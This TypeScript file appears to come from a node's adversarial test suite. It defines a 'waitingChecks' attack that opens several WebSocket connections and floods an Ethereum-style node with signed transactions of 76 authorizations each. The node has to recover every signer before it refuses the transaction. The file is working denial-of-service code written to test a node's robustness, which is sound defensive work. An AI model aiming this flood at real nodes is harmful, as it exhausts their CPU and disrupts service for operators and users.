import type { WebSocket } from 'ws';
import { signTransaction } from '#qord/kernel/transaction/codec.ts';
import { toHex } from '#qord/primitives/hex.ts';
import { accountOf, privateKeyOf, signFrom } from '#qord/testing/sign-from.ts';
import { signAuthorizing } from '#qord/testing/signing/sign-authorizing.ts';
import { type Attack, type AttackContext, sized } from '../attack.ts';

/** Accounts that pay for nothing: whose transactions are refused, and who has signed their authorizations. */
const sender = 4;
const authority = 6;
/** Authorizations of each transaction: some milliseconds of a thread, in less than 16 KiB of a request. */
const authorizations = 76;

/**
 * Transactions whose signers a thread must recover before the pool refuses them, because one of these has transactions
 * behind a gap already. They cost nothing, and nothing but a limit says how many of them wait.
 */
export const waitingChecks: Attack = {
  summary: 'transactions of 76 authorizations over WebSocket, refused after all of these are recovered',
  attack: async (context) => {
    const { clients, urls } = context;
    const next = await nextNonce(context, authority);
    for (const nonce of [next + 5n, next + 6n]) {
      await clients.call(urls.http ?? '', 'eth_sendRawTransaction', toHex(signFrom(authority, { nonce }).raw));
    }
    const refused = refusedTransactions((await nextNonce(context, sender)) + 5n, next + 1_000n);
    const connections = sized(context, 8, 1);
    await Promise.all(Array.from({ length: connections }, () => flood(context, refused, sized(context, 1e9, 5_000))));
  },
};

/** Different texts without end. */
function* refusedTransactions(nonce: bigint, authorizationNonce: bigint): Generator<string> {
  const authorities = Array<number>(authorizations).fill(authority);
  const signed = signAuthorizing(sender, { authorities, nonce, authorizationNonce });
  for (let value = 0n; ; value++) yield toHex(signTransaction({ ...signed, value }, privateKeyOf(sender)).raw);
}

async function flood({ clients, urls, signal }: AttackContext, texts: Iterator<string>, count: number): Promise<void> {
  const socket = await clients.openWebSocket(urls.webSocket ?? '');
  if (socket === undefined) return;
  const answered = new Promise<void>((resolve) => {
    let responses = 0;
    socket.on('message', (data) => {
      clients.tally.addResponse(JSON.parse(String(data)));
      if (++responses === count) resolve();
    });
    socket.on('close', () => resolve());
  });
  for (let sent = 0; sent < count && !signal.aborted; sent++) {
    const params = [texts.next().value];
    socket.send(JSON.stringify({ jsonrpc: '2.0', id: sent, method: 'eth_sendRawTransaction', params }));
    if (sent % 64 === 0) await drained(socket);
  }
  await answered;
}

/** Waits until little is left that the node has not read. */
async function drained(socket: WebSocket): Promise<void> {
  do await new Promise((resolve) => setImmediate(resolve));
  while (socket.bufferedAmount > 2 ** 22);
}

async function nextNonce({ clients, urls }: AttackContext, account: number): Promise<bigint> {
  const counted = await clients.call(urls.http ?? '', 'eth_getTransactionCount', accountOf(account), 'pending');
  return BigInt(String(counted?.result ?? '0x0'));
}
